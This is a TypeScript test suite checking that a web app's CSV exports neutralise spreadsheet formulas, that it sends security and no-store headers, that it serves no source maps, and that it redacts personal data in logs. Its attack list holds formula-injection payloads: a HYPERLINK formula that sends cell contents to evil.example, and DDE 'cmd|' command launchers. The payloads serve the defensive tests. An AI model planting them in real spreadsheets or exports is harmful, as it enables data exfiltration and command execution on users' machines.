/**
 * Issue 12, "output": formula-safe CSVs, security headers on the API and the served console, no
 * source maps, and logs without request bodies or SQL parameters with personal data. Issue 28
 * item 10: no API answer may be cached (`Cache-Control: no-store`).
 */
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { sql } from '@server/src/db/database'
import { csvCell } from '@server/src/areas/support/csv'
import { createApp } from '@server/src/http/app'
import { redactError, redactPersonalData } from '@server/src/http/redact'
import { createServer } from '@server/src/server'
import { failedRowsCsv } from '@src/services/csv/failed-rows'
import { admin, startTestServer, testAuthenticator, type TestServer } from './support/server'

let server: TestServer
beforeAll(async () => {
  server = await startTestServer()
})
afterAll(() => server.close())

const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1']

describe('formula-safe CSV', () => {
  it('the failed-rows CSV prefixes every formula-like cell (data, errors, headers) with an apostrophe', () => {
    const csv = failedRowsCsv(['氏名', 'メールアドレス', '=evil'], [
      { line: 2, raw: { 氏名: attacks[0] as string, メールアドレス: attacks[1] as string, '=evil': attacks[3] as string }, errors: [attacks[2] as string] },
      { line: 3, raw: { 氏名: attacks[4] as string, メールアドレス: attacks[5] as string, '=evil': '山田 a=b' }, errors: ['正しい行'] },
    ])
    const cells = csv.slice(1).split(/,|\r\n/)
    for (const attack of attacks) {
      expect(csv).not.toMatch(new RegExp(`(^|,|\\n)"?${attack.slice(0, 3).replace(/[|+*?()\\[\]^$.]/g, '\\$&')}`))
      expect(csv).toContain(`'${attack.replace(/"/g, '""').slice(0, 8)}`)
    }
    expect(cells).toContain('"\'=evil"')
    expect(csv).toContain('山田 a=b') // an ordinary cell is untouched
  })

  it("the server's usage report CSV does the same for a client name", async () => {
    expect(csvCell('=1+1')).toBe("'=1+1")
    expect(csvCell('-1')).toBe("'-1")
    expect(csvCell('@x')).toBe("'@x")
    expect(csvCell('\tx')).toBe("'\tx")
    expect(csvCell('a=b')).toBe('a=b')
    const [row] = await server.db.query<{ client_id: string; month: string }>(sql`SELECT data->>'clientId' AS client_id, data->>'month' AS month FROM documents WHERE kind = 'usage' LIMIT 1`)
    if (!row) throw new Error('the demo data has usage rows')
    await server.db.query(sql`UPDATE clients SET company_name = ${attacks[0]} WHERE id = ${row.client_id}`)
    const res = await server.request('GET', `/api/v1/admin/reports/usage_report?from=${row.month}&to=${row.month}&clientId=${row.client_id}`, { as: admin })
    expect(res.status).toBe(200)
    const text = await res.text()
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""詳細"")"`)
    expect(text).not.toMatch(/,"?=HYPERLINK/)
  })
})

describe('security headers', () => {
  it('every API answer (including refusals) forbids framing, sniffing and any active content', async () => {
    for (const [path, as] of [['/api/v1/health_check', undefined], ['/api/v1/admin/doctors/search', undefined], ['/api/v1/operators/%E0%A4%A', admin]] as const) {
      const res = await server.request(path.includes('search') ? 'POST' : 'GET', path, { ...(as ? { as } : {}), body: path.includes('search') ? {} : undefined })
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff')
      expect(res.headers.get('x-frame-options'), path).toBe('DENY')
      expect(res.headers.get('referrer-policy'), path).toBe('strict-origin-when-cross-origin')
      expect(res.headers.get('content-security-policy'), path).toBe("default-src 'none'; frame-ancestors 'none'")
    }
  })

  it("the served console has a CSP without 'unsafe-inline' scripts and frame-ancestors 'none'; no source maps are served", async () => {
    const dir = mkdtempSync(join(tmpdir(), 'console-'))
    writeFileSync(join(dir, 'index.html'), '<!doctype html><script type="module" src="/assets/index.js"></script>')
    writeFileSync(join(dir, 'index.js.map'), '{"version":3}')
    const { app } = createServer({ db: server.db, auth: testAuthenticator, port: 0, consoleDir: dir })
    const page = await app.request('/doctor')
    expect(page.status).toBe(200)
    const csp = page.headers.get('content-security-policy') ?? ''
    const directive = (name: string) => csp.split(';').map((d) => d.trim()).find((d) => d.startsWith(`${name} `)) ?? ''
    expect(directive('script-src')).toBe("script-src 'self'")
    expect(directive('frame-ancestors')).toBe("frame-ancestors 'none'")
    expect(directive('object-src')).toBe("object-src 'none'")
    expect(page.headers.get('x-content-type-options')).toBe('nosniff')
    expect(page.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin')
    expect((await app.request('/index.js.map')).status).toBe(404)
    expect((await app.request('/api/v1/health_check')).headers.get('content-security-policy')).toBe("default-src 'none'; frame-ancestors 'none'")
  })

  it('every API answer says Cache-Control: no-store: envelopes, CSV downloads and every refusal (issue 28 item 10)', async () => {
    const [doctor] = await server.db.query<{ email: string }>(sql`SELECT email FROM doctors WHERE deleted_at IS NULL ORDER BY id LIMIT 1`)
    const [usage] = await server.db.query<{ client_id: string; month: string }>(sql`SELECT data->>'clientId' AS client_id, data->>'month' AS month FROM documents WHERE kind = 'usage' LIMIT 1`)
    if (!doctor || !usage) throw new Error('the demo data has doctors and usage rows')
    const app = createApp({ db: server.db, auth: testAuthenticator, log: () => undefined })
    const call = async (path: string, init: RequestInit & { as?: string } = {}) =>
      app.request(path, { ...init, headers: { ...(init.as ? { authorization: `Bearer test:${init.as}` } : {}), ...(init.headers as Record<string, string>) } })
    const json = { 'content-type': 'application/json' }
    const answers: ReadonlyArray<[string, number, Promise<Response>]> = [
      ['a JSON envelope', 200, call('/api/v1/health_check')],
      ['a search', 200, call('/api/v1/admin/doctors/search', { method: 'POST', as: admin, body: '{"limit":1}', headers: json })],
      ['a CSV download', 200, call(`/api/v1/admin/reports/usage_report?from=${usage.month}&to=${usage.month}&clientId=${usage.client_id}`, { as: admin })],
      ['no token', 401, call('/api/v1/admin/doctors/search', { method: 'POST', body: '{}', headers: json })],
      ['a forbidden call', 403, call('/api/v1/admin/notifications/', { as: doctor.email })],
      ['an unknown API path', 404, call('/api/v1/no/such/call')],
      ['an API source-map path', 404, call('/api/v1/app.js.map')],
      ['a body over the limit', 413, call('/api/v1/admin/doctors/search', { method: 'POST', as: admin, body: '{}', headers: { ...json, 'content-length': String(5 * 1024 * 1024) } })],
      ['a malformed URL', 400, call('/api/direct/tags/?keyword=%zz')],
      ['bad input', 400, call('/api/v1/admin/doctors/search', { method: 'POST', as: admin, body: '{', headers: json })],
    ]
    for (const [what, status, answer] of answers) {
      const res = await answer
      expect(res.status, what).toBe(status)
      expect(res.headers.get('cache-control'), what).toBe('no-store')
    }
    // a 429: the per-address contacts budget (10 an hour), the address from X-Forwarded-For behind one proxy
    const saved = { TRUST_PROXY: process.env.TRUST_PROXY, RATE_LIMIT_FACTOR: process.env.RATE_LIMIT_FACTOR }
    process.env.TRUST_PROXY = '1'
    process.env.RATE_LIMIT_FACTOR = '1'
    try {
      let last: Response | undefined
      for (let i = 0; i < 11; i++) last = await call('/api/direct/contacts', { method: 'POST', body: '{}', headers: { ...json, 'x-forwarded-for': '203.0.113.77' } })
      expect(last?.status).toBe(429)
      expect(last?.headers.get('cache-control')).toBe('no-store')
    } finally {
      for (const [key, value] of Object.entries(saved)) if (value === undefined) delete process.env[key]
      else process.env[key] = value
    }
  })

  it('behind createServer: API answers are no-store, the console keeps its caching (hashed assets a year, pages no-cache)', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'console-'))
    writeFileSync(join(dir, 'index.html'), '<!doctype html><title>x</title>')
    mkdirSync(join(dir, 'assets'))
    writeFileSync(join(dir, 'assets', 'index-abc123.js'), 'export {}')
    const { app } = createServer({ db: server.db, auth: testAuthenticator, port: 0, consoleDir: dir })
    expect((await app.request('/api/v1/health_check')).headers.get('cache-control')).toBe('no-store')
    expect((await app.request('/api/v1/operators/%E0%A4%A')).headers.get('cache-control')).toBe('no-store')
    expect((await app.request('/api/v1/admin/doctors/search', { method: 'POST', body: '{}' })).headers.get('cache-control')).toBe('no-store')
    expect((await app.request('/doctor')).headers.get('cache-control')).toBe('no-cache')
    expect((await app.request('/assets/index-abc123.js')).headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
  })

  it('the console page has no inline script for the CSP to allow, and the build writes no source maps', async () => {
    const html = readFileSync('index.html', 'utf8')
    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)]
    expect(scripts.length).toBeGreaterThan(0)
    for (const [, attributes, body] of scripts) {
      expect(attributes).toMatch(/\bsrc=/)
      expect(body?.trim()).toBe('')
    }
    const config = (await import('../../vite.config')).default as { build?: { sourcemap?: unknown } }
    expect(config.build?.sourcemap).toBe(false)
  })
})

describe('logs', () => {
  it('a 500 is logged without SQL parameters or the input value PostgreSQL repeats', () => {
    const drizzleLike = new Error('Failed query: select * from doctors where email = $1\nparams: yamada@example.com,090-1234-5678')
    expect(redactError(drizzleLike).message).toBe('Failed query: select * from doctors where email = $1\nparams: [redacted]')
    const pg = Object.assign(new Error('invalid input syntax for type integer: "yamada@example.com"'), { code: '22P02' })
    const safe = redactError(pg)
    expect(safe.message).toBe('invalid input syntax for type integer: "[redacted]"')
    expect((safe as Error & { code?: string }).code).toBe('22P02')
    expect(safe.stack).not.toContain('yamada')
  })

  it('a log-proxy entry reaches the log with e-mail addresses and phone numbers masked', async () => {
    const logged: unknown[] = []
    const app = createApp({ db: server.db, auth: testAuthenticator, log: (e) => logged.push(e) })
    const entry = { appName: 'MediColle WEB', buildHash: '', level: 'error', payload: { uri: '/doctor/42', messages: ['admission failed for yamada@example.com (090-1234-5678)'] } }
    const res = await app.request('/api/v1/logProxy/', { method: 'POST', body: JSON.stringify(entry), headers: { 'content-type': 'application/json' } })
    expect(res.status).toBe(202)
    expect(JSON.stringify(logged)).not.toMatch(/yamada@example\.com|090-1234-5678/)
    expect(logged).toEqual([redactPersonalData(entry)])
    expect(JSON.stringify(logged)).toContain('admission failed for [email] ([phone])')
  })
})
